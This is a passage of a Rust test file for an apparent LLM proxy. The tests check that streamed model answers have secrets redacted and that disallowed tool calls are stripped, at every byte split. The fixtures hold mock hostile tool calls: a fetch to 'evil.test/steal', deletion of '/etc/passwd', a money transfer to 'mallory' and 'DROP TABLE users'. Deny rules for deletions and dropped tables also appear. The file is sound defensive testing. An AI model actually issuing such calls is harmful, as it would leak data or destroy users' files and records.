//! Streams through the whole exchange at many split points: for every shape, every cut of the
//! upstream's bytes gives the client a well-formed stream whose reassembled text is the redaction
//! of the whole text, with no secret in it, and only the allowed tool calls.
#![cfg(test)]

mod common;

use std::sync::Arc;

use common::streams::*;
use llm_warden_engine::replay::{answer, post, replay, Split};
use llm_warden_engine::Policies;

const SECRET: &str = "SECRETSTRING123";
/// A GitHub token (a default rule) for the typed paths' rows.
const GH: &str = "ghp_Zq3kT9vLm2Xw8RbYc4Hn6Jp1Qs5Dt7Fg0Ka2";

struct Shape {
    name: &'static str,
    path: &'static str,
    request: &'static str,
    content_type: &'static str,
    build: fn(&str, &[Call], usize) -> String,
    read: fn(&str) -> Seen,
}

const SHAPES: &[Shape] = &[
    Shape {
        name: "openai chat",
        path: "/v1/chat/completions",
        request: r#"{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "text/event-stream",
        build: openai_chat_sse,
        read: read_openai_chat,
    },
    Shape {
        name: "anthropic",
        path: "/v1/messages",
        request: r#"{"model":"claude","max_tokens":10,"stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "text/event-stream",
        build: anthropic_sse,
        read: read_anthropic,
    },
    Shape {
        name: "openai responses",
        path: "/v1/responses",
        request: r#"{"model":"gpt-4o","stream":true,"input":"hi"}"#,
        content_type: "text/event-stream",
        build: responses_sse,
        read: read_responses,
    },
    Shape {
        name: "ollama chat",
        path: "/api/chat",
        request: r#"{"model":"llama3.2:3b","messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "application/x-ndjson",
        build: ollama_ndjson,
        read: read_ollama,
    },
];

/// Shapes that carry text only (no tool calls): covered by the text properties.
const TEXT_SHAPES: &[Shape] = &[Shape {
    name: "openai completions",
    path: "/v1/completions",
    request: r#"{"model":"gpt-3.5-turbo-instruct","stream":true,"prompt":"hi"}"#,
    content_type: "text/event-stream",
    build: openai_completions_sse,
    read: read_openai_chat,
}];

fn policies(json: &str) -> Arc<Policies> {
    Arc::new(Policies::from_json(json.as_bytes()).unwrap())
}

fn run(p: &Arc<Policies>, shape: &Shape, upstream: &str, split: &Split) -> (Seen, String) {
    let body = upstream.as_bytes().to_vec();
    let ct = shape.content_type;
    let out = replay(
        Arc::clone(p),
        &post(shape.path, shape.request),
        &move |_| answer(ct, &body),
        split,
    );
    let text = String::from_utf8(out.client_response.body).unwrap();
    ((shape.read)(&text), text)
}

fn splits(len: usize) -> Vec<Split> {
    let mut v: Vec<Split> = (1..=24).map(Split::Every).collect();
    v.extend([64, 100, 333, 4096].map(Split::Every));
    // Every single cut point.
    v.extend((1..len).step_by(7).map(|c| Split::At(vec![c])));
    v
}

#[test]
fn secrets_are_redacted_at_every_split() {
    let p = policies(&format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}}}"#));
    let text = format!("Here is the key {SECRET} and again {SECRET}. Bye.");
    let want = p.default_policy().secrets.redact(&text).text;
    assert!(!want.contains(SECRET));
    // REGRESSION: legacy Completions streams (`choices[].text`) passed unredacted.
    for shape in SHAPES.iter().chain(TEXT_SHAPES) {
        for per_event in [1, 2, 5] {
            let upstream = (shape.build)(&text, &[], per_event);
            for split in splits(upstream.len()) {
                let (seen, raw) = run(&p, shape, &upstream, &split);
                assert!(
                    !raw.contains(SECRET),
                    "{} {per_event} {split:?}: leaked",
                    shape.name
                );
                assert!(
                    seen.well_formed,
                    "{} {split:?}: malformed\n{raw}",
                    shape.name
                );
                assert_eq!(
                    seen.text, want,
                    "{} {per_event} {split:?}\n{raw}",
                    shape.name
                );
            }
        }
    }
}

#[test]
fn benign_streams_pass_byte_for_byte() {
    let p = policies("{}");
    let text = "The weather in Paris is mild today, with light rain expected later.";
    let calls = [call("get_weather", r#"{"city":"Paris"}"#)];
    for shape in SHAPES.iter().chain(TEXT_SHAPES) {
        let upstream = (shape.build)(text, &calls, 3);
        for split in [Split::Every(1), Split::Every(7), Split::Every(4096)] {
            let (_, raw) = run(&p, shape, &upstream, &split);
            assert_eq!(raw, upstream, "{} {split:?}", shape.name);
        }
    }
}

#[test]
fn disallowed_tool_calls_are_stripped_at_every_split() {
    let p =
        policies(r#"{"tools": {"default": "deny", "allow": ["get_weather"], "on_call": "strip"}}"#);
    let calls = [
        call("send_money", r#"{"to":"mallory","amount":1000}"#),
        call("get_weather", r#"{"city":"Paris"}"#),
        call("delete_file", r#"{"path":"/etc/passwd"}"#),
    ];
    for shape in SHAPES {
        let upstream = (shape.build)("Let me check.", &calls, 2);
        for split in splits(upstream.len()) {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(seen.well_formed, "{} {split:?}", shape.name);
            assert!(
                !raw.contains("send_money") && !raw.contains("delete_file"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert_eq!(seen.calls.len(), 1, "{} {split:?}\n{raw}", shape.name);
            assert_eq!(seen.calls[0].name, "get_weather");
            let args: serde_json::Value = serde_json::from_str(&seen.calls[0].arguments).unwrap();
            assert_eq!(args["city"], "Paris");
            assert_eq!(seen.text, "Let me check.", "{}", shape.name);
            assert!(seen.error.is_none());
        }
    }
}

#[test]
fn disallowed_tool_calls_end_the_stream_with_an_error() {
    let p = policies(r#"{"tools": {"default": "deny", "allow": ["get_weather"]}}"#);
    let calls = [
        call("get_weather", r#"{"city":"Paris"}"#),
        call("send_money", r#"{"to":"x"}"#),
    ];
    for shape in SHAPES {
        let upstream = (shape.build)("Sure.", &calls, 2);
        for split in [Split::Every(1), Split::Every(13), Split::Every(4096)] {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(
                seen.calls.iter().all(|c| c.name == "get_weather"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert!(
                seen.error.is_some(),
                "{} {split:?}: no error event\n{raw}",
                shape.name
            );
            assert!(
                !raw.contains("[DONE]")
                    && !raw.contains("message_stop")
                    && !raw.contains("\"done\":true"),
                "{} {split:?}: stream must not end cleanly after a block\n{raw}",
                shape.name
            );
        }
    }
}

#[test]
fn argument_rules_hold_the_call_until_complete() {
    let p = policies(
        r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}], "on_call": "strip"}}"#,
    );
    let good = call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#);
    let bad = call("fetch_url", r#"{"url":"https://evil.test/steal?d=1"}"#);
    for shape in SHAPES {
        let upstream = (shape.build)("ok", &[bad.clone(), good.clone()], 1);
        for split in [Split::Every(1), Split::Every(9), Split::Every(4096)] {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(
                !raw.contains("evil.test"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert_eq!(seen.calls.len(), 1, "{} {split:?}\n{raw}", shape.name);
            assert!(seen.calls[0].arguments.contains("docs.example.com"));
        }
    }
}

/// REGRESSION: frames that are not text deltas (errors, unknown event types, progress lines)
/// were passed as they came, so a secret inside them reached the client.
#[test]
fn secrets_in_frames_of_unknown_shape_are_redacted() {
    let p = policies(&format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}}}"#));
    let rows: &[(&str, &str, &str, String)] = &[
        (
            "openai sse without choices",
            "/v1/chat/completions",
            "text/event-stream",
            format!("data: {{\"error\": {{\"message\": \"bad key {SECRET}\"}}}}\n\ndata: [DONE]\n\n"),
        ),
        (
            "anthropic error event",
            "/v1/messages",
            "text/event-stream",
            format!("event: error\ndata: {{\"type\": \"error\", \"error\": {{\"message\": \"{SECRET}\"}}}}\n\n"),
        ),
        (
            "responses unknown event",
            "/v1/responses",
            "text/event-stream",
            format!("event: response.future.thing\ndata: {{\"type\": \"response.future.thing\", \"note\": \"{SECRET}\"}}\n\n"),
        ),
        (
            "ollama progress line",
            "/api/pull",
            "application/x-ndjson",
            format!("{{\"status\": \"pulling {SECRET}\"}}\n{{\"status\": \"success\"}}\n"),
        ),
    ];
    for (name, path, ct, body) in rows {
        for split in [Split::Every(1), Split::Every(5), Split::Every(4096)] {
            let body = body.as_bytes().to_vec();
            let ct = ct.to_string();
            let p2 = Policies::from_json(
                format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}, "models": {{"allow_admin": ["/api/pull"]}}}}"#).as_bytes(),
            )
            .unwrap();
            let pol = if path.starts_with("/api/pull") {
                Arc::new(p2)
            } else {
                Arc::clone(&p)
            };
            let out = replay(
                pol,
                &post(path, r#"{"model":"llama3.2:3b","stream":true}"#),
                &move |_| answer(&ct, &body),
                &split,
            );
            let text = String::from_utf8(out.client_response.body).unwrap();
            assert!(!text.contains(SECRET), "{name} {split:?}: leaked\n{text}");
            assert!(
                text.contains("[REDACTED:"),
                "{name} {split:?}: no redaction\n{text}"
            );
        }
    }
}

/// REGRESSION: an OpenAI Chat call held for its argument rules was released only when the choice
/// finished, after every later call, so upstream [fetch_url#0, get_weather#1] reached the client
/// as [get_weather#0, fetch_url#1]. A held call keeps its place in every shape, at every split.
#[test]
fn held_calls_keep_their_place_at_every_split() {
    let p = policies(
        r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}], "on_call": "strip"}}"#,
    );
    let good = call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#);
    let good2 = call("fetch_url", r#"{"url":"https://api.example.com/b"}"#);
    let bad = call("fetch_url", r#"{"url":"https://evil.test/steal"}"#);
    let weather = call("get_weather", r#"{"city":"Paris"}"#);
    let search = call("search", r#"{"q":"rain"}"#);
    // (name, upstream calls, calls the client must see, in order)
    let rows: Vec<(&str, Vec<Call>, Vec<Call>)> = vec![
        (
            "held first",
            vec![good.clone(), weather.clone()],
            vec![good.clone(), weather.clone()],
        ),
        (
            "held in the middle",
            vec![weather.clone(), good.clone(), search.clone()],
            vec![weather.clone(), good.clone(), search.clone()],
        ),
        (
            "two held in a row",
            vec![good.clone(), good2.clone(), weather.clone()],
            vec![good.clone(), good2.clone(), weather.clone()],
        ),
        (
            "held and stripped first",
            vec![bad.clone(), weather.clone(), good.clone()],
            vec![weather.clone(), good.clone()],
        ),
    ];
    for (name, calls, want) in &rows {
        for shape in SHAPES {
            let upstream = (shape.build)("ok", calls, 4);
            for split in splits(upstream.len()) {
                let (seen, raw) = run(&p, shape, &upstream, &split);
                let at = format!("{name}: {} {split:?}\n{raw}", shape.name);
                assert!(seen.well_formed && seen.error.is_none(), "{at}");
                let got: Vec<(String, serde_json::Value)> = seen
                    .calls
                    .iter()
                    .map(|c| (c.name.clone(), serde_json::from_str(&c.arguments).unwrap()))
                    .collect();
                let want: Vec<(String, serde_json::Value)> = want
                    .iter()
                    .map(|c| (c.name.clone(), serde_json::from_str(&c.arguments).unwrap()))
                    .collect();
                assert_eq!(got, want, "{at}");
                // Emitted in order too, not only numbered in order.
                let firsts: Vec<usize> = ["docs.example.com", "get_weather"]
                    .iter()
                    .filter_map(|s| raw.find(s))
                    .collect();
                if *name == "held first" {
                    assert!(firsts.windows(2).all(|w| w[0] < w[1]), "{at}");
                }
                assert!(!raw.contains("evil.test"), "{at}");
            }
        }
    }
}

/// (name, policy, upstream, calls the client sees, error code)
type HeldRow<'a> = (
    &'a str,
    &'a Arc<Policies>,
    String,
    Vec<Call>,
    Option<&'a str>,
);

/// A held call is decided when the next call starts: a blocked one ends the stream before any
/// later call reaches the client; a fragment of a decided call (an upstream interleaving calls)
/// is dropped, so the client sees exactly the arguments that were checked.
#[test]
fn held_calls_are_decided_when_the_next_call_starts() {
    let chunk = |tc: serde_json::Value, finish: serde_json::Value| {
        format!(
            "data: {}\n\n",
            serde_json::json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                               "choices": [{"index": 0, "delta": {"tool_calls": [tc]}, "finish_reason": finish}]})
        )
    };
    let start = |j: u64, name: &str, args: &str| {
        chunk(
            serde_json::json!({"index": j, "id": format!("call_{j}"), "type": "function",
                               "function": {"name": name, "arguments": args}}),
            serde_json::Value::Null,
        )
    };
    let more = |j: u64, args: &str| {
        chunk(
            serde_json::json!({"index": j, "function": {"arguments": args}}),
            serde_json::Value::Null,
        )
    };
    let end = "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\ndata: [DONE]\n\n";
    let args_rule = r#"{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}"#;
    let block = policies(&format!(r#"{{"tools": {{"arguments": [{args_rule}]}}}}"#));
    let strip = policies(&format!(
        r#"{{"tools": {{"arguments": [{args_rule}], "on_call": "strip"}}}}"#
    ));
    let rows: Vec<HeldRow> = vec![
        (
            "blocked held call ends the stream before the next call",
            &block,
            start(0, "fetch_url", r#"{"url":"https://evil.test/x"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + end,
            vec![],
            Some("tool_not_allowed"),
        ),
        (
            "late fragment of a decided call is dropped",
            &strip,
            start(0, "fetch_url", r#"{"url":"https://docs.example.com/a"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + &more(0, r#"{"url":"https://evil.test/x"}"#)
                + end,
            vec![
                call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#),
                call("get_weather", r#"{"city":"Paris"}"#),
            ],
            None,
        ),
        (
            "held call split over fragments, then the next call",
            &strip,
            start(0, "fetch_url", r#"{"url":"https://docs."#)
                + &more(0, r#"example.com/a"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + end,
            vec![
                call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#),
                call("get_weather", r#"{"city":"Paris"}"#),
            ],
            None,
        ),
    ];
    let shape = &SHAPES[0];
    for (name, p, upstream, want, error) in &rows {
        for split in splits(upstream.len()) {
            let (seen, raw) = run(p, shape, upstream, &split);
            let at = format!("{name} {split:?}\n{raw}");
            assert!(seen.well_formed, "{at}");
            assert_eq!(&seen.calls, want, "{at}");
            assert_eq!(seen.error.as_deref(), *error, "{at}");
            assert!(!raw.contains("evil.test"), "{at}");
            if error.is_some() {
                assert!(
                    !raw.contains("get_weather") && !raw.contains("[DONE]"),
                    "{at}"
                );
            }
        }
    }
}

/// REGRESSION: `tools.max_calls` was counted per body chunk (the exchange built a new response
/// context for every chunk), so with `max_calls: 1` two calls whose names reached the filter in
/// different chunks both went through. The count holds for the whole answer at every split.
#[test]
fn max_calls_counts_the_whole_answer_at_every_split() {
    let p = policies(r#"{"tools": {"max_calls": 1, "on_call": "strip"}}"#);
    let calls = [
        call("get_weather", r#"{"city":"Paris"}"#),
        call("get_weather", r#"{"city":"Rome"}"#),
    ];
    for shape in SHAPES {
        let upstream = (shape.build)("ok", &calls, 3);
        for split in splits(upstream.len()) {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            let at = format!("{} {split:?}\n{raw}", shape.name);
            assert!(seen.well_formed && seen.error.is_none(), "{at}");
            assert_eq!(seen.calls, vec![calls[0].clone()], "{at}");
            assert!(!raw.contains("Rome"), "{at}");
        }
    }
}

fn chat(delta: serde_json::Value, finish: Option<&str>) -> String {
    format!(
        "data: {}\n\n",
        serde_json::json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                           "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
    )
}

fn tool(tc: serde_json::Value) -> String {
    chat(serde_json::json!({"tool_calls": [tc]}), None)
}

fn chat_end(finish: &str) -> String {
    chat(serde_json::json!({}), Some(finish)) + "data: [DONE]\n\n"
}

fn named_event(v: serde_json::Value) -> String {
    format!("event: {}\ndata: {v}\n\n", v["type"].as_str().unwrap())
}

/// One upstream stream with tool calls and what the client must assemble from it.
struct CallRow {
    name: &'static str,
    /// Index into SHAPES.
    shape: usize,
    policy: &'static str,
    upstream: String,
    calls: Vec<Call>,
    /// OpenAI Chat: the legacy `function_call` the client must see.
    legacy: Option<Call>,
    /// The stream must end with the protocol's error (tool_not_allowed).
    error: bool,
    /// Never in the client's bytes (the error's message names a refused tool, so names are
    /// written as JSON strings: the token a frame would carry).
    excludes: &'static [&'static str],
}

const ALLOW_BLOCK: &str =
    r#"{"tools": {"default": "deny", "allow": ["get_weather", "fetch_url", "run_sql"]}}"#;
const ALLOW_STRIP: &str =
    r#"{"tools": {"default": "deny", "allow": ["get_weather"], "on_call": "strip"}}"#;
const DENY_DELETE: &str = r#"{"tools": {"deny": ["delete_*"]}}"#;
const URL_BLOCK: &str = r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}]}}"#;
const URL_STRIP: &str = r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}], "on_call": "strip"}}"#;
const SQL_STRIP: &str = r#"{"tools": {"arguments": [{"tool": "run_sql", "pointer": "", "deny": ["(?i)drop\\s+table"]}], "on_call": "strip"}}"#;

const EVIL: &str = r#"{"url":"https://evil.test/x"}"#;
const GOOD: &str = r#"{"url":"https://docs.example.com/a"}"#;

fn chat_rows() -> Vec<CallRow> {
    use serde_json::json;
    let open = |j: u64, name: &str| {
        tool(
            json!({"index": j, "id": format!("call_{j}"), "type": "function",
                    "function": {"name": name, "arguments": ""}}),
        )
    };
    let name_piece = |j: u64, name: &str| tool(json!({"index": j, "function": {"name": name}}));
    let args = |j: u64, a: &str| tool(json!({"index": j, "function": {"arguments": a}}));
    let custom = |j: u64, name: &str, input: &str| {
        tool(
            json!({"index": j, "id": format!("call_{j}"), "type": "custom",
                    "custom": {"name": name, "input": input}}),
        )
    };
    let custom_input = |j: u64, input: &str| tool(json!({"index": j, "custom": {"input": input}}));
    let legacy = |fc: serde_json::Value| chat(json!({"function_call": fc}), None);
    let paris = r#"{"city":"Paris"}"#;
    vec![
        CallRow {
            name: "name split: an allowed prefix plus a suffix is refused whole",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: open(0, "get_weather")
                + &name_piece(0, "_admin")
                + &args(0, "{}")
                + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"_admin\"", "[DONE]"],
        },
        CallRow {
            name: "name split: fragments assemble a denied name",
            shape: 0,
            policy: DENY_DELETE,
            upstream: open(0, "del")
                + &name_piece(0, "ete_file")
                + &args(0, "{}")
                + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"ete_file\"", "[DONE]"],
        },
        CallRow {
            name: "name split: an allowed name in pieces reaches the client whole",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: open(0, "get_")
                + &name_piece(0, "weather")
                + &args(0, paris)
                + &chat_end("tool_calls"),
            calls: vec![call("get_weather", paris)],
            legacy: None,
            error: false,
            excludes: &[],
        },
        CallRow {
            name: "name split, stripped: the next call keeps index 0",
            shape: 0,
            policy: ALLOW_STRIP,
            upstream: open(0, "get_weather")
                + &name_piece(0, "_admin")
                + &args(0, "{}")
                + &open(1, "get_weather")
                + &args(1, paris)
                + &chat_end("tool_calls"),
            calls: vec![call("get_weather", paris)],
            legacy: None,
            error: false,
            excludes: &["_admin"],
        },
        CallRow {
            name: "a name piece after the arguments started is dropped",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: open(0, "get_weather")
                + &args(0, r#"{"city":"#)
                + &name_piece(0, "_admin")
                + &args(0, r#""Paris"}"#)
                + &chat_end("tool_calls"),
            calls: vec![call("get_weather", paris)],
            legacy: None,
            error: false,
            excludes: &["_admin"],
        },
        CallRow {
            name: "a name completed only by the end of the choice",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: open(0, "get_weath") + &name_piece(0, "er_admin") + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"get_weath\"", "[DONE]"],
        },
        CallRow {
            name: "arguments before any name: refused as a call without a valid name",
            shape: 0,
            policy: DENY_DELETE,
            upstream: args(0, "{}") + &name_piece(0, "delete_file") + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"delete_file\"", "[DONE]"],
        },
        CallRow {
            name: "name and arguments whole in one fragment: the argument rule applies",
            shape: 0,
            policy: URL_BLOCK,
            upstream: tool(json!({"index": 0, "id": "call_0", "type": "function",
                                  "function": {"name": "fetch_url", "arguments": EVIL}}))
                + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["evil.test"],
        },
        CallRow {
            name: "custom call: refused by name",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: custom(0, "send_money", "")
                + &custom_input(0, "to=mallory ")
                + &custom_input(0, "amount=1000")
                + &chat_end("tool_calls"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"send_money\"", "mallory", "[DONE]"],
        },
        CallRow {
            name: "custom call: the whole input is checked by a rule at pointer \"\"",
            shape: 0,
            policy: SQL_STRIP,
            upstream: custom(0, "run_sql", "")
                + &custom_input(0, "DROP ")
                + &custom_input(0, "TABLE users")
                + &custom(1, "run_sql", "SELECT 1")
                + &chat_end("tool_calls"),
            calls: vec![call("run_sql", "SELECT 1")],
            legacy: None,
            error: false,
            excludes: &["DROP", "TABLE"],
        },
        CallRow {
            name: "legacy function_call: refused by name",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: legacy(json!({"name": "send_money", "arguments": ""}))
                + &legacy(json!({"arguments": r#"{"to":"mallory"}"#}))
                + &chat_end("function_call"),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"send_money\"", "mallory", "[DONE]"],
        },
        CallRow {
            name: "legacy function_call: allowed passes",
            shape: 0,
            policy: ALLOW_BLOCK,
            upstream: legacy(json!({"name": "get_weather", "arguments": ""}))
                + &legacy(json!({"arguments": paris}))
                + &chat_end("function_call"),
            calls: vec![],
            legacy: Some(call("get_weather", paris)),
            error: false,
            excludes: &[],
        },
        CallRow {
            name: "legacy function_call: stripped, the answer ends as a plain one",
            shape: 0,
            policy: ALLOW_STRIP,
            upstream: legacy(json!({"name": "send_money", "arguments": ""}))
                + &legacy(json!({"arguments": r#"{"to":"mallory"}"#}))
                + &chat_end("function_call"),
            calls: vec![],
            legacy: None,
            error: false,
            excludes: &["send_money", "mallory", "\"function_call\""],
        },
    ]
}

fn responses_rows() -> Vec<CallRow> {
    use serde_json::json;
    let created = named_event(
        json!({"type": "response.created", "response": {"id": "resp_1", "output": []}}),
    );
    let item = |kind: &str, name: &str, args: &str| {
        let field = if kind == "custom_tool_call" {
            "input"
        } else {
            "arguments"
        };
        json!({"id": format!("{name}_1"), "type": kind, "call_id": "call_1", "name": name, field: args})
    };
    let added = |oi: u64, it: &serde_json::Value| {
        named_event(json!({"type": "response.output_item.added", "output_index": oi, "item": it}))
    };
    let done = |oi: u64, it: &serde_json::Value| {
        named_event(json!({"type": "response.output_item.done", "output_index": oi, "item": it}))
    };
    let completed = |items: &[&serde_json::Value]| {
        named_event(
            json!({"type": "response.completed", "response": {"id": "resp_1", "output": items}}),
        )
    };
    let whole = |args: &str| {
        let it = item("function_call", "fetch_url", args);
        created.clone() + &added(0, &it) + &done(0, &it) + &completed(&[&it])
    };
    let benign_deltas_evil_done = {
        let it = item("function_call", "fetch_url", "");
        created.clone()
            + &added(0, &it)
            + &named_event(
                json!({"type": "response.function_call_arguments.delta", "output_index": 0,
                                  "item_id": "fetch_url_1", "delta": GOOD}),
            )
            + &named_event(
                json!({"type": "response.function_call_arguments.done", "output_index": 0,
                                  "item_id": "fetch_url_1", "arguments": EVIL}),
            )
            + &done(0, &item("function_call", "fetch_url", EVIL))
            + &completed(&[&item("function_call", "fetch_url", EVIL)])
    };
    let late_delta = {
        let it = item("function_call", "fetch_url", "");
        let delta = |d: &str| {
            named_event(
                json!({"type": "response.function_call_arguments.delta", "output_index": 0,
                               "item_id": "fetch_url_1", "delta": d}),
            )
        };
        created.clone()
            + &added(0, &it)
            + &delta(GOOD)
            + &named_event(
                json!({"type": "response.function_call_arguments.done", "output_index": 0,
                                  "item_id": "fetch_url_1", "arguments": GOOD}),
            )
            + &delta(EVIL)
            + &done(0, &item("function_call", "fetch_url", GOOD))
            + &completed(&[&item("function_call", "fetch_url", GOOD)])
    };
    let custom_then_weather = {
        let money = item("custom_tool_call", "send_money", "");
        let money_done = item("custom_tool_call", "send_money", "to=mallory");
        let weather = item("function_call", "get_weather", r#"{"city":"Paris"}"#);
        created.clone()
            + &added(0, &money)
            + &named_event(
                json!({"type": "response.custom_tool_call_input.delta", "output_index": 0,
                                  "item_id": "send_money_1", "delta": "to=mallory"}),
            )
            + &named_event(
                json!({"type": "response.custom_tool_call_input.done", "output_index": 0,
                                  "item_id": "send_money_1", "input": "to=mallory"}),
            )
            + &done(0, &money_done)
            + &added(1, &weather)
            + &done(1, &weather)
            + &completed(&[&money_done, &weather])
    };
    // An MCP call whose arguments stream in `response.mcp_call_arguments.*` events, with the
    // call's progress events between them.
    let mcp_streamed = |args: &str| {
        let it = item("mcp_call", "fetch_url", "");
        let done_item = item("mcp_call", "fetch_url", args);
        let (head, tail) = args.split_at(args.len() / 2);
        let ev = |kind: &str, extra: serde_json::Value| {
            let mut v = json!({"type": kind, "output_index": 0, "item_id": "fetch_url_1"});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            named_event(v)
        };
        created.clone()
            + &added(0, &it)
            + &ev("response.mcp_call.in_progress", json!({}))
            + &ev("response.mcp_call_arguments.delta", json!({"delta": head}))
            + &ev("response.mcp_call_arguments.delta", json!({"delta": tail}))
            + &ev(
                "response.mcp_call_arguments.done",
                json!({"arguments": args}),
            )
            + &ev("response.mcp_call.completed", json!({}))
            + &done(0, &done_item)
            + &completed(&[&done_item])
    };
    vec![
        // REGRESSION: an MCP call's streamed arguments were not checked against its argument
        // rules (the call was decided on the empty arguments of its added item).
        CallRow {
            name: "responses: mcp_call arguments streamed by deltas, blocked",
            shape: 2,
            policy: URL_BLOCK,
            upstream: mcp_streamed(EVIL),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["evil.test"],
        },
        CallRow {
            name: "responses: mcp_call arguments streamed by deltas, stripped",
            shape: 2,
            policy: URL_STRIP,
            upstream: mcp_streamed(EVIL),
            calls: vec![],
            legacy: None,
            error: false,
            excludes: &["evil.test", "\"fetch_url\""],
        },
        CallRow {
            name: "responses: good mcp_call arguments streamed by deltas pass once",
            shape: 2,
            policy: URL_STRIP,
            upstream: mcp_streamed(GOOD),
            calls: vec![call("fetch_url", GOOD)],
            legacy: None,
            error: false,
            excludes: &[],
        },
        CallRow {
            name: "responses: arguments whole in the items, no deltas, blocked",
            shape: 2,
            policy: URL_BLOCK,
            upstream: whole(EVIL),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["evil.test"],
        },
        CallRow {
            name: "responses: arguments whole in the items, no deltas, stripped",
            shape: 2,
            policy: URL_STRIP,
            upstream: whole(EVIL),
            calls: vec![],
            legacy: None,
            error: false,
            excludes: &["evil.test", "fetch_url"],
        },
        CallRow {
            name: "responses: good arguments whole in the items pass once",
            shape: 2,
            policy: URL_STRIP,
            upstream: whole(GOOD),
            calls: vec![call("fetch_url", GOOD)],
            legacy: None,
            error: false,
            excludes: &[],
        },
        CallRow {
            name: "responses: benign deltas, but the done copies say otherwise",
            shape: 2,
            policy: URL_BLOCK,
            upstream: benign_deltas_evil_done,
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["evil.test"],
        },
        CallRow {
            name: "responses: a late delta of a call already decided is dropped",
            shape: 2,
            policy: URL_STRIP,
            upstream: late_delta,
            calls: vec![call("fetch_url", GOOD)],
            legacy: None,
            error: false,
            excludes: &["evil.test"],
        },
        CallRow {
            name: "responses: a custom_tool_call is refused by name",
            shape: 2,
            policy: ALLOW_BLOCK,
            upstream: custom_then_weather.clone(),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["\"send_money\"", "mallory", "get_weather"],
        },
        CallRow {
            name: "responses: a custom_tool_call is stripped, the next call renumbered",
            shape: 2,
            policy: ALLOW_STRIP,
            upstream: custom_then_weather,
            calls: vec![call("get_weather", r#"{"city":"Paris"}"#)],
            legacy: None,
            error: false,
            excludes: &["send_money", "mallory"],
        },
    ]
}

fn anthropic_rows() -> Vec<CallRow> {
    use serde_json::json;
    let whole = |input: &str| {
        let input: serde_json::Value = serde_json::from_str(input).unwrap();
        named_event(
            json!({"type": "message_start", "message": {"id": "msg_1", "type": "message", "role": "assistant",
                                                                "content": [], "model": "m", "stop_reason": null}}),
        ) + &named_event(json!({"type": "content_block_start", "index": 0,
                                  "content_block": {"type": "tool_use", "id": "toolu_1", "name": "fetch_url", "input": input}}))
            + &named_event(json!({"type": "content_block_stop", "index": 0}))
            + &named_event(json!({"type": "message_delta", "delta": {"stop_reason": "tool_use"}}))
            + &named_event(json!({"type": "message_stop"}))
    };
    vec![
        CallRow {
            name: "anthropic: input whole in content_block_start, blocked",
            shape: 1,
            policy: URL_BLOCK,
            upstream: whole(EVIL),
            calls: vec![],
            legacy: None,
            error: true,
            excludes: &["evil.test", "message_stop"],
        },
        CallRow {
            name: "anthropic: input whole in content_block_start, stripped",
            shape: 1,
            policy: URL_STRIP,
            upstream: whole(EVIL),
            calls: vec![],
            legacy: None,
            error: false,
            excludes: &["evil.test", "fetch_url"],
        },
        CallRow {
            name: "anthropic: good input whole in content_block_start passes",
            shape: 1,
            policy: URL_STRIP,
            upstream: whole(GOOD),
            calls: vec![call("fetch_url", GOOD)],
            legacy: None,
            error: false,
            excludes: &[],
        },
    ]
}

/// Arguments compared as JSON when they are JSON (re-emitted calls are re-serialised).
fn comparable(calls: &[Call]) -> Vec<(String, serde_json::Value)> {
    calls
        .iter()
        .map(|c| {
            let args = serde_json::from_str(&c.arguments)
                .unwrap_or_else(|_| serde_json::Value::String(c.arguments.clone()));
            (c.name.clone(), args)
        })
